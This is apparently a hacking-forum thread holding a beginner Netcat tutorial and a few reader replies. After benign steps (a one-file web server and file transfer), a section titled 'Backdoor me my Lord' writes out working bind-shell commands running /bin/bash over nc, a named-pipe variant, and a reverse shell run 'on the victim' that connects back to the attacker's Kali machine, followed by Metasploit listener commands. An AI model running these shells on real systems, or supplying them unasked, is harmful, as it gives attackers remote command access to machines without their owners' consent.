Getting started with Netcat


Hello Hackers !

Welcome to this my new tutorial ( or at least sharing some tips ) . Here you will learn how to use Netcat and what is Netcat.

Netcat is the swiss army knife for hacker and network administrator. If you want to test a simple server/client app that you programmed in your favorite language , try Netcat !

Simple Web server

Here is how you can set up a simple web server

Juste create a simple html page

        <title>Simple Web Server</title>
        <h1>It Works</h1>

Then run netcat

cat index.html | nc -lvp 80You will get the following picture

Cool right ? :smile:

Data Transfert

Something cool about Netcat is data transfer. If you want to send a text file through your network just use Netcat !

On my Kali linux machine I use :

nc -lvp 1234 > test.txt

on another machine with Netcat installed :

nc ip_of_my_kali_linux 1234 < test.txt

and you will see the file in your kali linux machine :smile:Backdoor me my Lord

Now let’s use Netcat for a simple Backdoor !

There is two version of Netcat one with the “-e” option and one without it

For the first version you can run abackdoor with this command

nc -lvp 1234 -e /bin/bash

connect to your backdoor with netcat

Now if your Netcat version who doesn’t have -e you have to use a backpipe

create a backpipe

mknod backpipe p

and now the tricky Netcat command to have a shell

/bin/bash 0<backpipe | nc -lvp 1234 1>backpipeNow on your kali machine

If the victim is behind a nat those commands won’t work because we use Bind shell where you the attacker connect to the victim now we will use a reverse shell

run Netcat on your Kali machine listening for a connection

nc -lvp 1234

and on the victim

/bin/bash 0<backpipe | nc ip_of_your_kali_linux 1234 1>backpipe

And now you have a reverse shell !
You can use Metasploit and set up a listeneruse exploit/multi/handler
set payload linux/x64/reverse_shell_tcp
set payload linux/x86/reverse_shell_tcp
exploit -j

Hope you like this short tutorial !
See you soon for another tutorial



Loved the tut! Thanks mate. :+1: :+1: :+1:

1 Like

(Leader & Offsec Engineer & Forum Daddy) #3

Nice tutorial! I would suggest renaming it to “Getting started with Netcat” as it explains it a bit better.

1 Like

(Ne0_) #4

Wow, great tutorial!
It really lets you get a grip on netcat in a short amount of time.Thank you for this tutorial :slight_smile:

1 Like


Yup I will do that :slight_smile:

1 Like


There are two versions of netcat:
netcat-openbsd(without “-e” function)
netcat-traditional(with “-e” function)

to use a specific one use:


you can also read the man pages of each one

man nc.openbsd
mannc.traditional

1 Like(system) closed #7

This topicwas automatically closedafter 30 days. New replies are no longer allowed.